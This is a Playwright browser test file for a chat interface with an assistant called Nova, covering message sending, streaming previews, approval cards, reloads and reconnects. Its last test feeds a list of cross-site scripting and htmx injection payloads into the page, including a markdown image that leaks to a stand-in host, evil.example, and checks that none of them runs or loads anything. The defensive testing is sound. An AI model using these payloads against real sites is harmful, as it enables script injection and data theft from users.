// The chat page in a real browser: a person types, sees the answer arrive, approves, and sees the card change.
// Skips aloud where there is no Chromium.
import type { BrowserContext, Page } from "playwright-core";
import { afterEach, beforeEach, expect } from "vitest";
import type { Clock } from "../../src/ports.ts";
import { proposal, question, reply } from "../support/posts.ts";
import { startWebChat } from "../support/web-chat.ts";
import type { WebChatUnderTest } from "../support/web-chat.ts";
import { hasBrowser, inBrowser, useBrowser } from "../support/browser.ts";
import { toPreview } from "../support/preview.ts";

const browser = useBrowser("the chat page");

/** The browser runs in real time, so the page's server does too. */
const realClock: Clock = {
  now: () => Date.now(),
  after: (delayMs, call) => {
    const timer = setTimeout(call, delayMs);
    timer.unref();
    return () => clearTimeout(timer);
  },
};

let context: BrowserContext;
let page: Page;
let chat: WebChatUnderTest;
let complaints: string[];

beforeEach(async () => {
  if (!hasBrowser) return;
  chat = await startWebChat({ clock: realClock });
  context = await browser().newContext();
  complaints = [];
  page = await openPage();
});
afterEach(async () => {
  if (!hasBrowser) return;
  await context.close();
  await chat.close();
});

async function openPage(): Promise<Page> {
  const opened = await context.newPage();
  opened.on("console", (message) => {
    if (message.type() === "error" || message.type() === "warning") complaints.push(message.text());
  });
  opened.on("pageerror", (error) => complaints.push(error.message));
  await opened.goto(chat.url);
  await opened.locator("#connection[data-state=open]").waitFor();
  return opened;
}
const log = (on: Page = page) => on.getByRole("log", { name: "Messages" });

inBrowser("a person asks, sees the answer being written, and then the answer", async () => {
  await page.getByLabel("Message to Nova").fill("how many brushes are in stock?");
  await page.keyboard.press("Enter");
  const asked = await chat.sink.at(0);
  expect(asked.body).toEqual({ kind: "text", text: "how many brushes are in stock?" });
  await log().getByText("how many brushes are in stock?").waitFor();
  expect(await page.getByLabel("Message to Nova").inputValue()).toBe("");

  const rest = chat.web.working("web:chat:chat");
  chat.web.preview(toPreview("web:chat:chat", "There are **24"));
  await page.locator("#preview").getByText("There are").waitFor();
  await page.getByText("Nova is working").waitFor({ state: "attached" });
  await chat.show(reply("There are **240** brushes."), { id: "o1" });
  rest();
  await log().getByText("brushes.", { exact: false }).last().waitFor();
  expect(await log().locator("strong").textContent()).toBe("240");
  await page.locator("#preview .entry").waitFor({ state: "detached" });
  await page.locator("#working .dots").waitFor({ state: "detached" });
  expect(complaints).toEqual([]);
});

inBrowser("Approve is pressed, and the card changes on every open page", async () => {
  const other = await openPage();
  const shownAs = await chat.show(proposal(), { id: "o1" });
  await other.getByRole("button", { name: "Approve" }).waitFor();
  await page.getByRole("button", { name: "Approve" }).click();
  expect((await chat.sink.at(0)).body).toEqual({
    kind: "press",
    nonce: "nova1.approve",
    onMessage: shownAs,
    words: null,
    fields: {},
  });
  await chat.show(
    { ...proposal({ state: "Approved by Kit, done", isOpen: false }), buttons: [] },
    { id: "o1", shownAs },
  );
  for (const each of [page, other]) {
    await log(each).getByText("Approved by Kit, done").waitFor();
    expect(await each.getByRole("button", { name: "Approve" }).count()).toBe(0);
    expect(await log(each).locator(".entry").count()).toBe(1);
  }
  expect(complaints).toEqual([]);
});

inBrowser(
  "a rejection asks for its reason, with the keyboard alone, and a change meanwhile keeps the words",
  async () => {
    const shownAs = await chat.show(proposal(), { id: "o1" });
    await page.getByText("Reject…").focus();
    await page.keyboard.press("Enter");
    const reason = page.getByLabel("Why not?");
    await reason.fill("wrong customer");
    await chat.show(proposal({ state: "1 of 2 approvals" }), { id: "o1", shownAs });
    await page.getByText("1 of 2 approvals").waitFor();
    expect(await reason.inputValue()).toBe("wrong customer");
    await page.getByRole("button", { name: "Reject", exact: true }).click();
    expect((await chat.sink.at(0)).body).toMatchObject({ nonce: "nova1.reject", words: "wrong customer" });
    expect(complaints).toEqual([]);
  },
);

inBrowser("options of a question are buttons, also after a reload", async () => {
  await chat.show(question, { id: "o1" });
  await page.getByRole("button", { name: "Stock" }).waitFor();
  await page.reload();
  await page.getByRole("button", { name: "Stock" }).click();
  expect((await chat.sink.at(0)).body).toMatchObject({ kind: "press", nonce: "nova1.two" });
});

inBrowser("says on the page what could not be taken, and keeps the words to send them again", async () => {
  chat.sink.refuse();
  await page.getByLabel("Message to Nova").fill("keep this");
  await page.getByRole("button", { name: "Send" }).click();
  await page.getByRole("alert").getByText("was not taken; send it again").waitFor();
  expect(await page.getByLabel("Message to Nova").inputValue()).toBe("keep this");
});

inBrowser("a page from before a restart renews itself and keeps what was being typed", async () => {
  await page.getByLabel("Message to Nova").pressSequentially("half a sent");
  const port = Number(chat.host.split(":")[1]);
  await chat.close();
  chat = await startWebChat({ clock: realClock, port });
  await chat.show(reply("I am back."), { id: "o1" });
  await log().getByText("I am back.").waitFor();
  await page.locator("#connection[data-state=open]").waitFor();
  expect(await page.getByLabel("Message to Nova").inputValue()).toBe("half a sent");
  await page.getByLabel("Message to Nova").press("End");
  await page.keyboard.type("ence");
  await page.keyboard.press("Enter");
  expect((await chat.sink.at(0)).body).toEqual({ kind: "text", text: "half a sentence" });
});

inBrowser("hostile words run nothing and load nothing", async () => {
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  page.on("dialog", (dialog) => void dialog.dismiss().then(() => complaints.push("a dialog opened")));
  const payloads = [
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "![x](http://evil.example/leak?q=1)",
    "[x](javascript:alert(1))",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<div hx-get='/x' hx-trigger='load' hx-swap-oob='innerHTML:body'>gone</div>",
    "<template hx type='partial' hx-target='body'>gone</template>",
    "<hx-partial hx-target='body'>gone</hx-partial>",
    "data: x\n\nevent: hx:release\n\n",
  ];
  for (const [index, text] of payloads.entries()) {
    await chat.show(
      { ...proposal({ title: text, agentWords: text, effects: [text] }), text, footer: text },
      { id: `o${index}` },
    );
  }
  await chat.show(reply("end of it"), { id: "end" });
  await log().getByText("end of it").waitFor();
  expect(await log().locator(".entry").count()).toBe(payloads.length + 1);
  expect(await log().locator("img, svg, script, iframe, template").count()).toBe(0);
  // The image is a link that says where it leads, and nothing but a press follows it.
  const links = await log().locator("a").all();
  for (const link of links) expect(await link.getAttribute("href")).toBe("http://evil.example/leak?q=1");
  expect(links.length).toBeGreaterThan(0);
  expect(asked).toEqual([]);
  expect(complaints).toEqual([]);
});
